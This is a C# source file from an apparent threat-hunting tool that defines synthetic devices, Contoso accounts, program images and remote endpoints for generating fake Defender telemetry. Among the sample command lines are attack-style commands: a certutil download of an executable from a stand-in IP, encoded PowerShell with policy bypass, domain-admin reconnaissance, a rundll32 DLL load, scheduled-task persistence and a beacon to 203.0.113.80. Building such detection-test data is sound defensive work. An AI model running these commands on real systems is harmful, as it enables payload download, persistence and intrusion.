using RmmHunt.Generator.Internals.Randomness;

namespace RmmHunt.Generator.Synthetic.Internals;

/// <summary>A device of the synthetic fleet; every table draws from the same few, so joins find partners.</summary>
internal sealed record FleetDevice(string Name, string Ip, string Os, string Type)
{
    public string Id { get; } = StableHash.Sha1Hex("device:" + Name);
}

/// <summary>An account of the synthetic organisation, with the identifiers Defender and Entra give it.</summary>
internal sealed record FleetAccount(string Name, string DisplayName, string Domain, string Sid)
{
    public string Upn => Name + "@contoso.com";
    public string ObjectId { get; } = StableHash.Guid("account:" + Name);
}

/// <summary>A program image with the metadata Defender reports for it.</summary>
internal sealed record Image(string Path, string Company, string Product, string Version, string Description, string CommandLine)
{
    public string FileName => System.IO.Path.GetFileName(Path);
    public string Sha1 { get; } = StableHash.Sha1Hex(Path);
    public string Sha256 { get; } = StableHash.Sha256Hex(Path);
    public string Md5 { get; } = StableHash.Md5Hex(Path);
    public long Size => 40_000 + (long)(StableHash.Of(Path) % 4_000_000);
}

/// <summary>The few devices, accounts, programs and remote endpoints synthetic rows are made of.</summary>
internal static class Vocabulary
{
    public static readonly FleetDevice[] Devices =
    [
        new("ws-fin-014.contoso.local", "10.1.4.14", "Windows11", "Workstation"),
        new("ws-hr-022.contoso.local", "10.1.4.22", "Windows10", "Workstation"),
        new("ws-dev-107.contoso.local", "10.1.6.107", "Windows11", "Workstation"),
        new("srv-file-01.contoso.local", "10.1.1.10", "WindowsServer2022", "Server"),
        new("srv-dc-01.contoso.local", "10.1.1.2", "WindowsServer2019", "Server"),
        new("lt-sales-031.contoso.local", "192.168.8.31", "Windows11", "Workstation"),
    ];

    private const string SidPrefix = "S-1-5-21-1004336348-1177238915-682003330-";

    public static readonly FleetAccount[] Accounts =
    [
        new("jdoe", "Jane Doe", "contoso", SidPrefix + "1104"),
        new("asmith", "Alex Smith", "contoso", SidPrefix + "1107"),
        new("mrossi", "Marta Rossi", "contoso", SidPrefix + "1112"),
        new("svc-backup", "Backup Service", "contoso", SidPrefix + "1203"),
        new("adm-kwalker", "Kim Walker (admin)", "contoso", SidPrefix + "500"),
        new("system", "SYSTEM", "nt authority", "S-1-5-18"),
    ];

    public static readonly Image[] Images =
    [
        new(@"c:\windows\system32\windowspowershell\v1.0\powershell.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.3527", "Windows PowerShell",
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
        new(@"c:\windows\system32\cmd.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.2506", "Windows Command Processor",
            @"cmd.exe /c whoami /all & net group ""domain admins"" /domain"),
        new(@"c:\windows\system32\rundll32.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.1", "Windows host process (Rundll32)",
            @"rundll32.exe C:\Users\Public\update.dll,DllRegisterServer"),
        new(@"c:\windows\system32\certutil.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.2506", "CertUtil.exe",
            "certutil.exe -urlcache -split -f http://198.51.100.23/a.txt a.exe"),
        new(@"c:\windows\system32\svchost.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.1", "Host Process for Windows Services",
            "svchost.exe -k netsvcs -p -s Schedule"),
        new(@"c:\windows\explorer.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.3527", "Windows Explorer",
            "C:\\Windows\\Explorer.EXE"),
        new(@"c:\program files\microsoft office\root\office16\winword.exe", "Microsoft Corporation", "Microsoft Office", "16.0.17928.20156", "Microsoft Word",
            @"""WINWORD.EXE"" /n ""C:\Users\jdoe\Downloads\invoice.docm"""),
        new(@"c:\program files\google\chrome\application\chrome.exe", "Google LLC", "Google Chrome", "129.0.6668.90", "Google Chrome",
            @"""chrome.exe"" --type=utility --utility-sub-type=network.mojom.NetworkService"),
        new(@"c:\windows\system32\schtasks.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.1", "Task Scheduler Configuration Tool",
            @"schtasks.exe /create /tn Updater /tr C:\Users\Public\update.exe /sc onlogon"),
        new(@"c:\program files\server-eye\service\servereye.exe", "Krämer IT Solutions GmbH", "Server-Eye", "3.0.1044", "Server-Eye Agent",
            @"""C:\Program Files\Server-Eye\service\ServerEye.exe"" --service"),
        new(@"c:\users\public\update.exe", "", "", "", "", @"C:\Users\Public\update.exe -connect 203.0.113.80:443"),
        new(@"c:\windows\system32\lsass.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.20348.2527", "Local Security Authority Process",
            @"C:\Windows\system32\lsass.exe"),
    ];

    public static readonly (string Ip, string Url, int Port, string Type)[] Remotes =
    [
        ("20.190.159.2", "login.microsoftonline.com", 443, "Public"),
        ("142.250.185.78", "www.google.com", 443, "Public"),
        ("203.0.113.80", "update-check.example.net", 443, "Public"),
        ("198.51.100.23", "198.51.100.23", 80, "Public"),
        ("10.1.1.2", "srv-dc-01.contoso.local", 389, "Private"),
        ("10.1.1.10", "srv-file-01.contoso.local", 445, "Private"),
        ("10.1.4.22", "ws-hr-022.contoso.local", 3389, "Private"),
        ("185.159.82.12", "www.server-eye.de", 443, "Public"),
    ];

    public static readonly string[] Countries = ["US", "DE", "GB", "NL", "FR"];
    public static readonly string[] Cities = ["Seattle", "Berlin", "London", "Amsterdam", "Paris"];
}
